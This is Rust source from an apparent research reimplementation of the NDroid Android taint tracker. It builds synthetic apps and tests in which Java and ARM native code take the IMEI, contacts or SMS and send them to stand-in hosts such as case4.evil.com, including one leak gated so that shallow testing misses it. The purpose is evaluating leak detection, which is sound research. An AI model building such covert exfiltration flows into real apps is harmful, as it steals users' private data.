        .with_registers(1),
    );
    // doSync: leaks only when enabled.
    b.method(
        c,
        MethodDef::new(
            "doSync",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::SGet {
                    dst: 0,
                    class: c,
                    field: 0,
                },
                DexInsn::IfTestZ {
                    op: CmpOp::Eq,
                    a: 0,
                    target: 5, // not enabled: return
                },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contacts,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: upload_m,
                    args: vec![1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    b.finish("Lapp/Sync;", "doSync").unwrap()
}

/// The exported entry points of [`gated_leak_app`].
pub const GATED_ENTRIES: [&str; 5] = [
    "showHome",
    "showSettings",
    "showAbout",
    "enableSync",
    "doSync",
];

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;

    #[test]
    fn rng_is_deterministic() {
        let mut a = MonkeyRng::new(42);
        let mut b = MonkeyRng::new(42);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = MonkeyRng::new(43);
        assert_ne!(a.next_u64(), c.next_u64());
    }

    #[test]
    fn shallow_monkey_misses_deep_monkey_finds() {
        // Few events: the enable→sync sequence is unlikely.
        let mut sys = gated_leak_app().launch(Mode::NDroid);
        let report = drive(&mut sys, "Lapp/Sync;", &GATED_ENTRIES, 2, 7);
        assert_eq!(report.errors, 0);
        let shallow_found = !sys.leaks().is_empty();

        // Many events: the sequence occurs with near certainty.
        let mut sys = gated_leak_app().launch(Mode::NDroid);
        let report = drive(&mut sys, "Lapp/Sync;", &GATED_ENTRIES, 200, 7);
        assert_eq!(report.errors, 0);
        assert!(
            !sys.leaks().is_empty(),
            "200 random events hit enableSync then doSync"
        );
        // The shallow run may or may not hit the sequence; record only.
        let _ = shallow_found;
    }

    #[test]
    fn directed_sequence_always_leaks() {
        let mut sys = gated_leak_app().launch(Mode::NDroid);
        sys.run_java("Lapp/Sync;", "enableSync", &[]).unwrap();
        sys.run_java("Lapp/Sync;", "doSync", &[]).unwrap();
        assert_eq!(sys.leaks().len(), 1);
        assert_eq!(sys.leaks()[0].dest, "sync.evil.com");
    }

    #[test]
    fn sync_without_enable_is_silent() {
        let mut sys = gated_leak_app().launch(Mode::NDroid);
        sys.run_java("Lapp/Sync;", "doSync", &[]).unwrap();
        assert!(sys.leaks().is_empty());
        assert!(sys.kernel.network_log.is_empty());
    }
}
