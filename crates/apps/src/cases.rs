//! One app per information-flow scenario of Table I / Fig. 3.
//!
//! Each app pairs Dalvik bytecode with genuine ARM native code; the
//! {source, intermediate, sink} structure matches the corresponding
//! case exactly, so running them under TaintDroid-only vs. NDroid
//! reproduces the paper's detection matrix: TaintDroid catches only
//! Case 1; NDroid catches all five.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Case 1: Java source → native processing → Java sink **via the
/// return value** (Fig. 3a). TaintDroid detects this: its JNI policy
/// taints the return value because a parameter was tainted.
pub fn case1() -> App {
    let mut b = AppBuilder::new("case1-app", "Java source -> native hash -> Java sink");
    let c = b.class("Lapp/Case1;");

    // int nativeHash(String s): sums the bytes of s.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0); // char*
    b.asm.mov_imm(Reg::R5, 0).unwrap(); // sum
    let top = b.asm.here_label();
    b.asm.ldrb(Reg::R1, Reg::R4, 0);
    b.asm.cmp_imm(Reg::R1, 0).unwrap();
    let done = b.asm.label();
    b.asm.b_cond(ndroid_arm::Cond::Eq, done);
    b.asm.add(Reg::R5, Reg::R5, Reg::R1);
    b.asm.add_imm(Reg::R4, Reg::R4, 1).unwrap();
    b.asm.b(top);
    b.asm.bind(done).unwrap();
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let native = b.native_method(c, "nativeHash", "IL", true, entry);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let value_of = b
        .program
        .find_method_by_name("Ljava/lang/String;", "valueOf")
        .unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("case1.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: value_of,
                    args: vec![1],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::ConstString { dst: 2, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![2, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3),
    );
    b.finish("Lapp/Case1;", "main").unwrap()
}

/// Case 1′: the sensitive data parks in native memory; a *second*
/// native call re-surfaces it as a brand-new `String` (step 2″ of
/// Fig. 3b). TaintDroid misses it: the new object and the untainted-
/// parameter return value carry no taint.
pub fn case1_prime() -> App {
    let mut b = AppBuilder::new(
        "case1prime-app",
        "Java source -> native store; second native fetch -> Java sink",
    );
    let c = b.class("Lapp/Case1Prime;");
    let global = b.data_buffer(128);

    // void storeNative(String s): strcpy(G, chars(s))
    let store = b.asm.label();
    b.asm.bind(store).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, global);
    b.asm.call_abs(libc_addr("strcpy"));
    b.asm.pop(RegList::of(&[Reg::PC]));
    let store_m = b.native_method(c, "storeNative", "VL", true, store);

    // String fetchNative(): NewStringUTF(G)
    let fetch = b.asm.label();
    b.asm.bind(fetch).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.ldr_const(Reg::R0, global);
    b.asm.call_abs(dvm_addr("NewStringUTF"));
    b.asm.pop(RegList::of(&[Reg::PC]));
    let fetch_m = b.native_method(c, "fetchNative", "L", true, fetch);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("case1prime.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: store_m,
                    args: vec![0],
                },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: fetch_m,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::ConstString { dst: 2, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![2, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3),
    );
    b.finish("Lapp/Case1Prime;", "main").unwrap()
}

/// Case 1′, step-2′ variant: instead of Java pulling the data back
/// (step 2″), the **native code pushes it** — it calls a Java method
/// to deposit the re-surfaced secret into a static field, which the
/// Java side later sends (Fig. 3b arrows 2′ → 3).
pub fn case1_prime_callback() -> App {
    let mut b = AppBuilder::new(
        "case1prime-callback-app",
        "native deposits the secret via a Java callback (step 2')",
    );
    let c = b.program.add_class(ndroid_dvm::ClassDef {
        name: "Lapp/Case1PrimeCb;".into(),
        static_fields: vec![ndroid_dvm::FieldDef {
            name: "deposited".into(),
            is_reference: true,
        }],
        ..ndroid_dvm::ClassDef::default()
    });
    let global = b.data_buffer(128);
    let cls_str = b.data_cstr("Lapp/Case1PrimeCb;");
    let cb_str = b.data_cstr("deposit");

    // void stash(String s): park chars in native memory.
    let stash = b.asm.label();
    b.asm.bind(stash).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, global);
    b.asm.call_abs(libc_addr("strcpy"));
    b.asm.pop(RegList::of(&[Reg::PC]));
    let stash_m = b.native_method(c, "stash", "VL", true, stash);

    // void push(): NewStringUTF(G); CallStaticVoidMethod(deposit, s).
    let push_fn = b.asm.label();
    b.asm.bind(push_fn).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.ldr_const(Reg::R0, global);
    b.asm.call_abs(dvm_addr("NewStringUTF"));
    b.asm.mov(Reg::R4, Reg::R0); // new jstring
    b.asm.ldr_const(Reg::R0, cls_str);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, cb_str);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R2, Reg::R4); // vararg 0 = jstring
    b.asm.call_abs(dvm_addr("CallStaticVoidMethod"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let push_m = b.native_method(c, "push", "V", true, push_fn);

    // Java deposit(String s): stores into the static field.
    b.method(
        c,
        MethodDef::new(
            "deposit",
            "VL",
            MethodKind::Bytecode(vec![
                DexInsn::SPut {
                    src: 0,
                    class: c,
                    field: 0,
                },
                DexInsn::ReturnVoid,
            ]),
        ),
    );

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("case1prime-cb.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: stash_m,
                    args: vec![0],
                },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: push_m,
                    args: vec![],
                },
                // Read the deposited secret back and send it.
                DexInsn::SGet {
                    dst: 1,
                    class: c,
                    field: 0,
                },
                DexInsn::ConstString { dst: 2, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![2, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3),
    );
    b.finish("Lapp/Case1PrimeCb;", "main").unwrap()
}

/// Case 2: Java source, **native sink** (Fig. 3b step 2). TaintDroid's
/// sinks "do not include native methods", so the `send(2)` goes
/// unnoticed.
pub fn case2() -> App {
    let mut b = AppBuilder::new("case2-app", "Java source -> native socket send");
    let c = b.class("Lapp/Case2;");

    // void sendNative(String dest, String data)
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    b.asm.mov(Reg::R5, Reg::R1); // data jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars")); // dest chars
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars")); // data chars
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R6, Reg::R0);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R6);
    b.asm.mov(Reg::R1, Reg::R5);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));
    let native = b.native_method(c, "sendNative", "VLL", true, entry);

    let contact = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    let dest = b.string_const("case2-native.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contact,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::ConstString { dst: 1, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![1, 0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    b.finish("Lapp/Case2;", "main").unwrap()
}

/// Case 3: the **native code collects** the sensitive data (by calling
/// up into the framework through JNI), launders it through native
/// memory, and hands a fresh `String` to Java for transmission
/// (Fig. 3c steps 1, 3, 4).
pub fn case3() -> App {
    let mut b = AppBuilder::new(
        "case3-app",
        "native collects via JNI up-call -> Java sink",
    );
    let c = b.class("Lapp/Case3;");
    let cls_str = b.data_cstr("Landroid/telephony/TelephonyManager;");
    let meth_str = b.data_cstr("getDeviceId");

    // String getSecret()
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::LR]));
    b.asm.ldr_const(Reg::R0, cls_str);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.ldr_const(Reg::R1, meth_str);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(dvm_addr("CallStaticObjectMethod")); // tainted jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars")); // native copy
    b.asm.call_abs(dvm_addr("NewStringUTF")); // fresh object
    b.asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
    let native = b.native_method(c, "getSecret", "L", true, entry);

    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("case3.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::ConstString { dst: 1, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![1, 0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    b.finish("Lapp/Case3;", "main").unwrap()
}

/// Case 4: native gets the sensitive data from the Java context through
/// JNI (step 1) and leaks it **itself** (step 2, Fig. 3c).
pub fn case4() -> App {
    let mut b = AppBuilder::new("case4-app", "native JNI fetch -> native sendto");
    let c = b.class("Lapp/Case4;");
    let cls_str = b.data_cstr("Landroid/provider/SmsProvider;");
    let meth_str = b.data_cstr("queryLastMessage");
    let dest_str = b.data_cstr("case4.evil.com");

    // void runNative()
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    b.asm.ldr_const(Reg::R0, cls_str);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.ldr_const(Reg::R1, meth_str);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(dvm_addr("CallStaticObjectMethod")); // sms jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0); // buf
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0); // fd
    b.asm.ldr_const(Reg::R1, dest_str);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R6, Reg::R0); // len
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov(Reg::R2, Reg::R6);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));
    let native = b.native_method(c, "runNative", "V", true, entry);

    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/Case4;", "main").unwrap()
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    fn leaks_for(app: App, mode: Mode) -> Vec<ndroid_dvm::LeakEvent> {
        let sys = app.run(mode).expect("app runs");
        sys.leaks().into_iter().cloned().collect()
    }

    #[test]
    fn case1_detected_by_both() {
        assert!(!leaks_for(case1(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case1(), Mode::NDroid);
        assert!(!leaks.is_empty());
        assert!(leaks[0].taint.contains(Taint::IMEI));
    }

    #[test]
    fn case1_prime_missed_by_taintdroid_caught_by_ndroid() {
        assert!(
            leaks_for(case1_prime(), Mode::TaintDroid).is_empty(),
            "TaintDroid under-taints the re-surfaced string"
        );
        let leaks = leaks_for(case1_prime(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::IMEI));
        assert_eq!(leaks[0].dest, "case1prime.evil.com");
    }

    #[test]
    fn case1_prime_callback_variant() {
        // Step 2' of Fig. 3b: native pushes the secret up via a Java
        // callback. TaintDroid misses; NDroid's call bridge carries the
        // argument taint into the DVM frame.
        assert!(leaks_for(case1_prime_callback(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case1_prime_callback(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::IMEI));
        assert_eq!(leaks[0].dest, "case1prime-cb.evil.com");
    }

    #[test]
    fn case2_missed_by_taintdroid_caught_by_ndroid() {
        assert!(leaks_for(case2(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case2(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert_eq!(leaks[0].dest, "case2-native.evil.com");
        assert_eq!(leaks[0].data, "Vincent");
    }

    #[test]
    fn case3_missed_by_taintdroid_caught_by_ndroid() {
        assert!(leaks_for(case3(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case3(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::IMEI));
    }

    #[test]
    fn case4_missed_by_taintdroid_caught_by_ndroid() {
        assert!(leaks_for(case4(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case4(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::SMS));
        assert_eq!(leaks[0].dest, "case4.evil.com");
    }

    #[test]
    fn exfiltrated_data_reaches_network_even_when_missed() {
        // TaintDroid mode: the data still leaves; only detection fails.
        let sys = case2().run(Mode::TaintDroid).unwrap();
        assert_eq!(sys.kernel.network_log.len(), 1);
        assert_eq!(
            String::from_utf8_lossy(&sys.kernel.network_log[0].1),
            "Vincent"
        );
        assert!(sys.kernel.network_log[0].2.is_clear(), "unseen by TaintDroid");
    }
}
