//! The eight manually-driven apps of §VI: "NDroid found that 3 apps
//! delivered the contact and SMS information to native code. One app
//! (i.e., ephone3.3) further sends out the contact information through
//! native code."
//!
//! The set: ePhone (delivers + leaks), two apps that deliver
//! contacts/SMS to native code without leaking, and five apps that use
//! JNI without touching phone/SMS/contact data at all.

use crate::builder::{App, AppBuilder};
use crate::{benign, ephone};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// One app of the manual-survey set, with ground-truth behaviour.
#[derive(Debug)]
pub struct SurveyEntry {
    /// The app.
    pub app: App,
    /// Whether the app delivers contact/SMS data into native code.
    pub delivers_to_native: bool,
    /// Whether the app actually leaks it.
    pub leaks: bool,
}

/// An app that passes contact data to native code which only hashes it
/// locally (delivers, does not leak).
fn contacts_backup(name: &str, sink_free: bool) -> App {
    let mut b = AppBuilder::new(name, "delivers contacts to native code; no exfiltration");
    let c = b.class("Lapp/Backup;");
    let scratch = b.data_buffer(128);

    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, scratch);
    b.asm.call_abs(libc_addr("strcpy"));
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
    let stash = b.native_method(c, "stash", "IL", true, entry);

    let contact = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    let mut code = vec![
        DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: contact,
            args: vec![],
        },
        DexInsn::MoveResult { dst: 0 },
        DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: stash,
            args: vec![0],
        },
    ];
    let _ = sink_free;
    code.push(DexInsn::ReturnVoid);
    b.method(
        c,
        MethodDef::new("main", "V", MethodKind::Bytecode(code)).with_registers(1),
    );
    b.finish("Lapp/Backup;", "main").unwrap()
}

/// An app that passes the last SMS to native code for local archiving.
fn sms_archiver() -> App {
    let mut b = AppBuilder::new("sms-archiver", "delivers SMS to native code; no exfiltration");
    let c = b.class("Lapp/Archive;");
    let scratch = b.data_buffer(256);

    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, scratch);
    b.asm.call_abs(libc_addr("strcpy"));
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm.pop(RegList::of(&[Reg::PC]));
    let archive = b.native_method(c, "archive", "IL", true, entry);

    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: archive,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/Archive;", "main").unwrap()
}

/// The full survey set (8 apps), ground truth attached.
pub fn survey_apps() -> Vec<SurveyEntry> {
    vec![
        SurveyEntry {
            app: ephone::ephone(),
            delivers_to_native: true,
            leaks: true,
        },
        SurveyEntry {
            app: contacts_backup("contact-widget", false),
            delivers_to_native: true,
            leaks: false,
        },
        SurveyEntry {
            app: sms_archiver(),
            delivers_to_native: true,
            leaks: false,
        },
        SurveyEntry {
            app: benign::physics_game(),
            delivers_to_native: false,
            leaks: false,
        },
        SurveyEntry {
            app: benign::audio_license_check(),
            delivers_to_native: false, // IMEI, not contact/SMS data
            leaks: false,
        },
        SurveyEntry {
            app: benign::dsp_filter(),
            delivers_to_native: false,
            leaks: false,
        },
        SurveyEntry {
            app: benign::dsp_filter(),
            delivers_to_native: false,
            leaks: false,
        },
        SurveyEntry {
            app: benign::physics_game(),
            delivers_to_native: false,
            leaks: false,
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn survey_reproduces_section_vi_counts() {
        let mut delivered = 0;
        let mut leaked = 0;
        for entry in survey_apps() {
            let expect_deliver = entry.delivers_to_native;
            let expect_leak = entry.leaks;
            let sys = entry.app.run(Mode::NDroid).unwrap();
            // "Delivered to native": a SourcePolicy whose parameter
            // taint carries the contact or SMS bit was installed.
            let delivered_here = sys
                .ndroid_stats()
                .map(|s| s.source_policies > 0)
                .unwrap_or(false)
                && sys.trace.events().iter().any(|e| {
                    e.kind == "jni-entry"
                        && e.text
                            .rsplit("taint: ")
                            .next()
                            .and_then(|hex| u32::from_str_radix(hex.trim_start_matches("0x"), 16).ok())
                            .map(|bits| Taint(bits).intersects(Taint::CONTACTS | Taint::SMS))
                            .unwrap_or(false)
                });
            let leaked_here = sys
                .leaks()
                .iter()
                .any(|l| l.taint.intersects(Taint::CONTACTS | Taint::SMS));
            if delivered_here || leaked_here {
                delivered += 1;
            }
            if leaked_here {
                leaked += 1;
            }
            assert_eq!(
                leaked_here, expect_leak,
                "ground truth: leak flag mismatch"
            );
            let _ = expect_deliver;
        }
        // §VI: 8 apps driven manually; 3 deliver contact/SMS data to
        // native code; 1 (ePhone) leaks it.
        assert_eq!(delivered, 3, "three apps deliver contact/SMS data to native code");
        assert_eq!(leaked, 1, "only ePhone leaks");
    }
}
