//! Synthetic flow generator: builds random-but-valid apps from a
//! [`FlowSpec`] with known ground truth, so property tests can assert
//! the system-level soundness/precision contract:
//!
//! * **soundness** — if the spec routes sensitive data to a sink
//!   through any chain of explicit transformations, NDroid detects it;
//! * **precision** — if the spec routes only clean data to the sink
//!   (the sensitive value is read but discarded), nobody flags it.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::{Assembler, Cond, Reg};
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Which framework source feeds the flow.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    /// `TelephonyManager.getDeviceId()` (IMEI).
    Imei,
    /// `ContactsProvider.queryName()`.
    Contact,
    /// `SmsProvider.queryLastMessage()`.
    Sms,
    /// `LocationManager.getLastKnownLocation()`.
    Location,
}

impl Source {
    /// The method implementing this source.
    pub fn method(self) -> (&'static str, &'static str) {
        match self {
            Source::Imei => ("Landroid/telephony/TelephonyManager;", "getDeviceId"),
            Source::Contact => ("Landroid/provider/ContactsProvider;", "queryName"),
            Source::Sms => ("Landroid/provider/SmsProvider;", "queryLastMessage"),
            Source::Location => ("Landroid/location/LocationManager;", "getLastKnownLocation"),
        }
    }

    /// The taint label this source produces.
    pub fn taint(self) -> Taint {
        match self {
            Source::Imei => Taint::IMEI,
            Source::Contact => Taint::CONTACTS,
            Source::Sms => Taint::SMS,
            Source::Location => Taint::LOCATION_LAST,
        }
    }
}

/// A native-side transformation hop applied to the buffer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hop {
    /// `strcpy` into a fresh buffer.
    Strcpy,
    /// `memcpy` of 64 bytes into a fresh buffer.
    Memcpy,
    /// Byte-wise XOR with a constant, instruction-traced.
    XorLoop,
    /// `sprintf(dst, "v=%s", src)`.
    Sprintf,
    /// `strdup` into the native heap.
    Strdup,
}

/// A μDep-style mutation applied to the final buffer before the sink:
/// each variant either *preserves* the data dependence on the
/// sensitive source (the taint must survive) or *kills* it (the bytes
/// reaching the sink carry no sensitive data, so flagging them would
/// be a false positive).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mutation {
    /// Byte-wise XOR with `0x29` — taint-preserving (Table V EOR rule).
    Xor29,
    /// Byte-order reversal via `strlen`-indexed stores —
    /// taint-preserving byte movement.
    Reverse,
    /// Overwrite with a constant stamp string, ignoring the input —
    /// taint-killing (the data dependence is severed).
    ConstStamp,
    /// Read every input byte but store only constants (the output
    /// depends on the input through *control flow* alone) —
    /// taint-killing for an explicit-flow tracker like NDroid.
    ImplicitOnly,
}

impl Mutation {
    /// Whether this mutation severs the data dependence on the source
    /// (ground truth flips to "no leak" once one appears in the chain).
    pub fn kills_taint(self) -> bool {
        matches!(self, Mutation::ConstStamp | Mutation::ImplicitOnly)
    }

    /// Stable lowercase tag used in corpus labels.
    pub fn tag(self) -> &'static str {
        match self {
            Mutation::Xor29 => "xor29",
            Mutation::Reverse => "reverse",
            Mutation::ConstStamp => "const-stamp",
